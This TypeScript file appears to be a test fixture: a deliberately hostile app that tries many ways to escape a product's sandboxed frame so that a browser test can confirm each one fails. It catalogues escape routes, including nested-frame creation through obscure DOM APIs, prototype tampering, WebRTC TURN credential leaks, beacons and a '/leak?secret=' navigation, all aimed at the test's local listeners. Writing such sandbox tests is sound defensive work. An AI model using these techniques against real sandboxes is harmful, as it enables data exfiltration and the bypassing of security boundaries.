/**
 * The hostile app of sandbox-product.browser.test.ts. It runs in the real product's sandboxed frame (bundled
 * by `appPage` with the real surface SDK), says ready, then tries every way out of its frame it knows: WebRTC
 * to a STUN and a TURN server on the test's UDP listener, a fresh realm (a nested frame) made every way an
 * element can be made, preconnect and DNS prefetch to the test's TCP listener, workers, beacons. Each outcome
 * is shown in the app's own page (`#report`, one row per attempt). Its buttons copy to the clipboard by
 * script and through the Capability Gateway, preconnect, tamper with the page's prototypes and retry, and
 * navigate the frame away. It also asks for the machine's devices directly (microphone, camera, location,
 * notifications), which only the Capability Gateway may give it.
 *
 * The same script runs in any nested frame it manages to make (the frame's `srcdoc` is this very script, so
 * the app's own hash-only CSP lets it run there): in a nested frame it opens the peer connections at once and
 * tells its parent it ran.
 */
import { connectSurface } from "@lineup/surface-sdk";

/** The hostile app as the tests install it (the Chromium product test and the desktop host's). */
export const HOSTILE_APP = { app_scope: "hostile-probe", name: "Hostile", file: "hostile-probe.lineup" } as const;
export const HOSTILE_PURPOSE = "Copy the note you asked for.";
export const HOSTILE_MANIFEST = {
  format: "lineup.app.v1",
  app_scope: HOSTILE_APP.app_scope,
  version: "1.0.0",
  name: HOSTILE_APP.name,
  description: "Tries every way out of its frame so a test can watch none of them work.",
  runtime_sdk: { api_version: "1", required_features: ["app.lifecycle.v1", "capability.request.v1"] },
  entrypoints: [{ id: "main", kind: "primary", default_eligible: true, display_modes: ["foreground"], path: "index.html", title: HOSTILE_APP.name }],
  capabilities: [{ name: "clipboard.write", purpose: HOSTILE_PURPOSE }],
} as const;

export interface HostileAppConfig {
  readonly udpPort: number;
  readonly tcpPort: number;
  /** The TURN username: it must never reach the UDP listener. */
  readonly username: string;
  /** What the app tries to put on the clipboard by script, and asks the Capability Gateway to write. */
  readonly scriptText: string;
  readonly eventText: string;
  readonly gatewayText: string;
  readonly purpose: string;
}

/** Markup that names a nested frame or a shadow root, built at run time: this script's own text must not
 *  contain it, since the script is the `srcdoc` of the frames it tries to make (and every HTML string is checked). */
const LT = String.fromCharCode(60);
const IFRAME = ["i", "frame"].join("");
const SHADOW_ROOT_MODE = ["shadow", "root", "mode"].join("");
const XHTML = "http://www.w3.org/1999/xhtml";

interface NestedRan {
  readonly type: "hostile.nested-ran";
  readonly route: string;
  readonly outcomes: readonly string[];
}

const sleep = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));
const errorName = (error: unknown): string => (typeof error === "object" && error !== null && "name" in error ? String((error as { name: unknown }).name) : typeof error);
const iceServers = (config: HostileAppConfig) => ({
  stun: { urls: `stun:127.0.0.1:${config.udpPort}` },
  turn: { urls: `turn:127.0.0.1:${config.udpPort}?transport=udp`, username: config.username, credential: "exfil-credential" },
});

/** Opens a peer connection with one ICE server and starts gathering (a data channel, an offer, the local description). */
async function openPeer(Peer: unknown, server: RTCIceServer): Promise<string> {
  if (typeof Peer !== "function") return "absent";
  const pc = new (Peer as typeof RTCPeerConnection)({ iceServers: [server] });
  pc.createDataChannel("exfil");
  await pc.setLocalDescription(await pc.createOffer());
  return `gathering (${pc.iceGatheringState})`;
}

export function run(config: HostileAppConfig): void {
  if (location.href === "about:srcdoc") {
    void nested(config);
    return;
  }
  // The script element that is running now: its text is what a nested frame gets as its srcdoc.
  const ownScript = document.currentScript?.textContent ?? "";
  void main(config, ownScript);
}

/** In a nested frame (a fresh realm, none of the frame page's pins): the peer connections at once. */
async function nested(config: HostileAppConfig): Promise<void> {
  const servers = iceServers(config);
  const outcomes: string[] = [];
  for (const server of [servers.stun, servers.turn]) {
    try {
      outcomes.push(await openPeer(window.RTCPeerConnection, server));
    } catch (error) {
      outcomes.push(`threw ${errorName(error)}`);
    }
  }
  const ran: NestedRan = { type: "hostile.nested-ran", route: window.name, outcomes };
  parent.postMessage(ran, "*");
}

async function main(config: HostileAppConfig, ownScript: string): Promise<void> {
  const surface = await connectSurface();
  const root = document.getElementById("app")!;
  root.style.cssText = "font:13px system-ui,sans-serif;padding:8px";
  const heading = document.createElement("h1");
  heading.textContent = "Hostile app: every way out of the frame";
  heading.style.cssText = "font-size:16px;margin:0 0 6px";
  root.append(heading);

  const nestedRan: NestedRan[] = [];
  window.addEventListener("message", (event: MessageEvent<unknown>) => {
    const data = event.data as Partial<NestedRan> | null;
    if (data !== null && typeof data === "object" && data.type === "hostile.nested-ran") nestedRan.push(data as NestedRan);
  });

  const controls = document.createElement("div");
  controls.style.cssText = "display:flex;gap:6px;flex-wrap:wrap;margin:4px 0";
  root.append(controls);
  const notes = document.createElement("textarea");
  notes.setAttribute("aria-label", "Notes");
  notes.rows = 1;
  notes.style.cssText = "width:260px";
  const log = document.createElement("ol");
  log.id = "log";
  log.setAttribute("aria-label", "Log");
  log.style.cssText = "margin:4px 0;font:12px monospace";
  const table = document.createElement("table");
  table.id = "report";
  table.style.cssText = "border-collapse:collapse;font:12px monospace";
  const write = (line: string): void => {
    const item = document.createElement("li");
    item.textContent = line;
    log.append(item);
  };

  const report = (name: string, outcome: string): void => {
    const row = table.insertRow();
    row.dataset["name"] = name;
    const cells = [name, outcome].map((text) => {
      const cell = row.insertCell();
      cell.textContent = text;
      cell.style.cssText = "border:1px solid #ccc;padding:1px 6px";
      return cell;
    });
    cells[1]!.dataset["outcome"] = outcome;
    // Green: refused. Grey: no error, and the test's listeners say whether anything left. Red: it got out.
    cells[1]!.style.color = /^(?:threw|rejected|removed|absent|error event|error \d|denied$|false$|none$|undefined$)/.test(outcome) ? "#116611" : /^(?:appended|true|granted)$/.test(outcome) ? "#555555" : "#bb0000";
  };
  const attempt = async (name: string, fn: () => unknown): Promise<void> => {
    try {
      const value = await fn();
      report(name, value === undefined ? "no error" : String(value));
    } catch (error) {
      report(name, `threw ${errorName(error)}`);
    }
  };
  /** A nested frame's markup (its srcdoc is this script): what the HTML-string routes try to insert. */
  const srcdoc = `${LT}script>${ownScript}${LT}/script>`;
  const frameMarkup = (route: string): string => `${LT}${IFRAME} name="${route}" srcdoc="${srcdoc.replace(/&/g, "&amp;").replace(/"/g, "&quot;")}">${LT}/${IFRAME}>`;
  const host = (): HTMLDivElement => {
    const div = document.createElement("div");
    document.body.append(div);
    return div;
  };
  /**
   * Gives `frame` (made some way other than createElement) this script as its srcdoc, puts it in the page (or
   * in `into`), and says after a while whether a nested realm ran in it.
   */
  const plant = async (route: string, frame: Element, into: Node = document.body): Promise<string> => {
    (frame as HTMLIFrameElement).name = route;
    (frame as HTMLIFrameElement).srcdoc = srcdoc;
    into.appendChild(frame);
    const connectedAfterTask = await new Promise<boolean>((resolve) => setTimeout(() => resolve(frame.isConnected), 0));
    await sleep(700);
    if (nestedRan.some((ran) => ran.route === route)) return "NESTED REALM RAN";
    return connectedAfterTask ? "in the page, did not run" : "removed before it loaded";
  };
  /** Frame elements made without createElement and without an HTML string. */
  const madeFrames: Record<string, () => Element> = {
    "createDocument(XHTML, iframe)": () => document.adoptNode(document.implementation.createDocument(XHTML, IFRAME, null).documentElement!),
    "XML entity expanding to h:iframe": () => {
      // The markup never says `<h:iframe`: an internal entity's replacement text does, once expanded.
      const xml = `${LT}!DOCTYPE r [${LT}!ENTITY e "&#60;h:${IFRAME} xmlns:h='${XHTML}'/&#62;">]>${LT}r>&e;${LT}/r>`;
      const parsed = new DOMParser().parseFromString(xml, "application/xml");
      return document.importNode(parsed.documentElement.firstElementChild!, true);
    },
    "customized built-in extends iframe": () => {
      const name = `x-frame-${Math.random().toString(36).slice(2, 8)}`;
      customElements.define(name, class extends HTMLIFrameElement {}, { extends: IFRAME });
      return new (customElements.get(name)!)();
    },
  };
  const servers = iceServers(config);
  const tcp = `http://127.0.0.1:${config.tcpPort}`;

  /** A `<link rel>` to the TCP listener, made by createElement or by markup. */
  const linkTo = (rel: string, how: "element" | "markup"): string => {
    if (how === "element") {
      const link = document.createElement("link");
      link.rel = rel;
      link.href = `${tcp}/${rel}-element`;
      document.head.append(link);
    } else {
      host().innerHTML = `${LT}link rel="${rel}" href="${tcp}/${rel}-markup">`;
    }
    return "appended";
  };

  const corpus = async (): Promise<void> => {
    // 1. WebRTC: the peer connection itself, under each name, and after trying to take the pin away.
    await attempt("RTCPeerConnection (STUN)", () => openPeer(window.RTCPeerConnection, servers.stun));
    await attempt("RTCPeerConnection (TURN, username)", () => openPeer(window.RTCPeerConnection, servers.turn));
    await attempt("webkitRTCPeerConnection", () => openPeer((window as unknown as { webkitRTCPeerConnection?: unknown }).webkitRTCPeerConnection, servers.stun));
    await attempt("delete RTCPeerConnection", () => delete (window as { RTCPeerConnection?: unknown }).RTCPeerConnection);
    await attempt("RTCPeerConnection after delete", () => openPeer(window.RTCPeerConnection, servers.stun));
    await attempt("RTCDataChannel", () => (typeof RTCDataChannel === "function" ? new (RTCDataChannel as unknown as new () => unknown)() : "absent"));

    // 2. A fresh realm: a nested frame, every way one can be asked for.
    await attempt("createElement(iframe) with RTC srcdoc", () => {
      const frame = document.createElement("iframe");
      frame.srcdoc = srcdoc;
      document.body.append(frame);
    });
    await attempt("createElementNS(XHTML, iframe)", () => document.body.append(document.createElementNS(XHTML, IFRAME)));
    await attempt("innerHTML (iframe srcdoc)", () => (host().innerHTML = frameMarkup("innerHTML")));
    await attempt("insertAdjacentHTML (iframe)", () => host().insertAdjacentHTML("beforeend", frameMarkup("insertAdjacentHTML")));
    await attempt("setHTMLUnsafe closed shadow root + iframe", () => {
      const div = host();
      if (typeof div.setHTMLUnsafe !== "function") return "absent";
      div.setHTMLUnsafe(`${LT}div>${LT}template ${SHADOW_ROOT_MODE}="closed">${frameMarkup("setHTMLUnsafe")}${LT}/template>${LT}/div>`);
    });
    await attempt("setHTMLUnsafe closed shadow root alone", () => host().setHTMLUnsafe(`${LT}div>${LT}template ${SHADOW_ROOT_MODE}="closed">${LT}p>hidden${LT}/p>${LT}/template>${LT}/div>`));
    await attempt("Document.parseHTMLUnsafe (iframe)", () => {
      const parse = (Document as unknown as { parseHTMLUnsafe?: (html: string) => Document }).parseHTMLUnsafe;
      return typeof parse === "function" ? String(parse(frameMarkup("parseHTMLUnsafe")).querySelector(IFRAME)) : "absent";
    });
    await attempt("document.write (iframe)", () => document.write(frameMarkup("document.write")));
    await attempt("createContextualFragment (iframe)", () => document.createRange().createContextualFragment(frameMarkup("createContextualFragment")));
    await attempt("execCommand insertHTML (iframe)", () => document.execCommand("insertHTML", false, frameMarkup("insertHTML")));
    await attempt("DOMParser XHTML h:iframe, imported", () => {
      const xhtml = `${LT}r xmlns:h="${XHTML}">${LT}h:${IFRAME} name="DOMParser" srcdoc="x"/>${LT}/r>`;
      const parsed = new DOMParser().parseFromString(xhtml, "application/xhtml+xml");
      document.body.append(document.importNode(parsed.documentElement, true));
    });
    await attempt("template holding an iframe", () => {
      const template = document.createElement("template");
      template.innerHTML = frameMarkup("template");
      document.body.append(template.content.cloneNode(true));
    });
    await attempt("template content + createElement(iframe)", () => document.createElement("template").content.append(document.createElement("iframe")));
    for (const [route, make] of Object.entries(madeFrames)) await attempt(route, () => plant(route, make()));
    await attempt("made iframe inside a closed attachShadow root", () => plant("attachShadow", madeFrames["createDocument(XHTML, iframe)"]!(), host().attachShadow({ mode: "closed" })));

    // 3. A DNS prefetch, as an element and as markup (preconnect is the "Preconnect" button: it connects).
    await attempt("link dns-prefetch (createElement)", () => linkTo("dns-prefetch", "element"));
    await attempt("link dns-prefetch (markup)", () => linkTo("dns-prefetch", "markup"));

    // 4. Other contexts and requests.
    const blobUrl = URL.createObjectURL(new Blob(["postMessage('worker ran')"], { type: "text/javascript" }));
    await attempt("new Worker(blob:)", () => new Promise<string>((resolve) => {
      const worker = new Worker(blobUrl);
      worker.onmessage = () => resolve("WORKER RAN");
      worker.onerror = () => resolve("error event");
      setTimeout(() => resolve("no outcome"), 1_000);
    }));
    await attempt("new SharedWorker(blob:)", () => new Promise<string>((resolve) => {
      const worker = new SharedWorker(blobUrl);
      worker.onerror = () => resolve("error event");
      setTimeout(() => resolve("no outcome"), 1_000);
    }));
    await attempt("navigator.sendBeacon", () => navigator.sendBeacon(`${tcp}/beacon`, "exfil"));
    await attempt("fetch", () => fetch(`${tcp}/fetch`, { mode: "no-cors" }).then(() => "RESOLVED", (error: unknown) => `rejected ${errorName(error)}`));
    // A native webview's message handlers (WebKit's window.webkit.messageHandlers): the desktop host keeps its
    // own in an isolated world, so an app's frame must not see any.
    await attempt("window.webkit (native message handlers)", () => typeof (window as unknown as { webkit?: unknown }).webkit);

    // 5. The machine's devices, asked for directly (an app gets them only through the Capability Gateway, which asks
    // the person): each must be refused without asking anyone, whatever the browser would grant its host page.
    const settled = <T>(promise: Promise<T>): Promise<T | "no outcome"> => Promise.race([promise, sleep(3_000).then(() => "no outcome" as const)]);
    const media = (constraints: MediaStreamConstraints) =>
      navigator.mediaDevices?.getUserMedia === undefined
        ? "absent"
        : settled(
            navigator.mediaDevices.getUserMedia(constraints).then(
              (stream) => {
                stream.getTracks().forEach((track) => track.stop());
                return `GRANTED (${stream.getTracks().length} tracks)`;
              },
              (error: unknown) => `rejected ${errorName(error)}`,
            ),
          );
    await attempt("getUserMedia (microphone)", () => media({ audio: true }));
    await attempt("getUserMedia (camera)", () => media({ video: true }));
    await attempt("geolocation", () =>
      navigator.geolocation === undefined
        ? "absent"
        : settled(new Promise<string>((resolve) => navigator.geolocation.getCurrentPosition(() => resolve("GRANTED"), (error) => resolve(`error ${error.code}`), { timeout: 2_000 }))),
    );
    await attempt("Notification.requestPermission", () => (typeof Notification === "undefined" ? "absent" : settled(Notification.requestPermission())));
    await attempt("new Notification", () =>
      typeof Notification === "undefined"
        ? "absent"
        : settled(
            new Promise<string>((resolve) => {
              const shown = new Notification("From the hostile app", { body: "shown without the Capability Gateway" });
              shown.onshow = () => resolve("SHOWN");
              shown.onerror = () => resolve("error event");
            }),
          ),
    );

    // 6. The host page and what it keeps: its DOM (and the token in it), its address, and the storage of an origin.
    // The frame's origin is opaque, so each must be refused; the frame's own storage would be its opaque origin's alone.
    await attempt("parent.document (host DOM)", () => window.parent.document.title);
    await attempt("top.location.href", () => window.top?.location.href);
    await attempt("localStorage", () => String(localStorage.length));
    await attempt("document.cookie", () => (document.cookie === "" ? "empty" : `READ ${document.cookie}`));
    report("nested realms that ran", nestedRan.map((ran) => ran.route).join(", ") || "none");
  };

  // The clipboard: by script (execCommand, a copy handler that swaps the data), and through the gateway.
  document.addEventListener("copy", (event) => {
    try {
      event.clipboardData!.setData("text/plain", config.eventText);
      event.preventDefault();
      write("copy event: setData done");
    } catch (error) {
      write(`copy event: ${errorName(error)}`);
    }
  });
  const button = (label: string, onClick: () => unknown): void => {
    const element = document.createElement("button");
    element.type = "button";
    element.textContent = label;
    element.addEventListener("click", () => void Promise.resolve(onClick()).catch((error: unknown) => write(`${label}: threw ${errorName(error)}`)));
    controls.append(element);
  };
  button("Copy by script", () => {
    const scratch = document.createElement("textarea");
    scratch.value = config.scriptText;
    document.body.append(scratch);
    scratch.select();
    const copied = document.execCommand("copy");
    const cut = document.execCommand("cut");
    scratch.remove();
    write(`execCommand copy: ${copied}, cut: ${cut}`);
  });
  button("Ask to copy", async () => {
    const result = await surface.capabilities.request({ capability: "clipboard.write", purpose: config.purpose, input: { text: config.gatewayText } });
    write(`clipboard.write: ${JSON.stringify(result)}`);
  });
  button("Preconnect", async () => {
    await attempt("link preconnect (createElement)", () => linkTo("preconnect", "element"));
    await attempt("link preconnect (markup)", () => linkTo("preconnect", "markup"));
    table.dataset["preconnected"] = "done";
  });
  button("Tamper and retry", async () => {
    // The frame page's watcher removes frames with the page's own methods: take them away, then plant frames again.
    Object.defineProperty(Element.prototype, "matches", { value: () => false, configurable: true, writable: true });
    const none = document.createDocumentFragment().querySelectorAll("none");
    Object.defineProperty(Element.prototype, "querySelectorAll", { value: () => none, configurable: true, writable: true });
    for (const [route, make] of Object.entries(madeFrames)) await attempt(`tampered: ${route}`, () => plant(`tampered ${route}`, make()));
    // The prelude's own calls: every intrinsic it could have looked up at run time, replaced with one that
    // hands the app whatever it is called on (the originals it wraps), then each pinned path tried again.
    const leaked: unknown[] = [];
    const saved = { apply: Function.prototype.apply, call: Function.prototype.call, test: RegExp.prototype.test, exec: RegExp.prototype.exec, lower: String.prototype.toLowerCase };
    const spy = function (this: unknown): never {
      leaked.push(this);
      throw new Error("tampered");
    };
    let madeByTamper: string;
    let copiedByTamper: string;
    try {
      Object.assign(Function.prototype, { apply: spy, call: spy });
      Object.assign(RegExp.prototype, { test: () => false, exec: () => null });
      String.prototype.toLowerCase = () => "bold";
      try {
        document.createElement("iframe");
        madeByTamper = "made";
      } catch (error) {
        madeByTamper = errorName(error);
      }
      try {
        copiedByTamper = String(document.execCommand("copy"));
      } catch (error) {
        copiedByTamper = errorName(error);
      }
    } finally {
      Object.assign(Function.prototype, { apply: saved.apply, call: saved.call });
      Object.assign(RegExp.prototype, { test: saved.test, exec: saved.exec });
      String.prototype.toLowerCase = saved.lower;
    }
    report("tampered: createElement(iframe) with intrinsics replaced", madeByTamper);
    report("tampered: execCommand copy with intrinsics replaced", copiedByTamper);
    report("tampered: originals handed to the app", String(leaked.length));
    const stun = nestedRan.map((ran) => `${ran.route}: ${ran.outcomes.join(" / ")}`);
    report("tampered: nested realms that ran", stun.join("; ") || "none");
    table.dataset["tampered"] = "done";
  });
  button("Leave", () => {
    location.href = `${tcp}/leak?secret=${encodeURIComponent(config.username)}`;
  });
  controls.append(notes);
  root.append(log, table);

  await surface.lifecycle.ready();
  await corpus();
  table.dataset["done"] = "true";
}

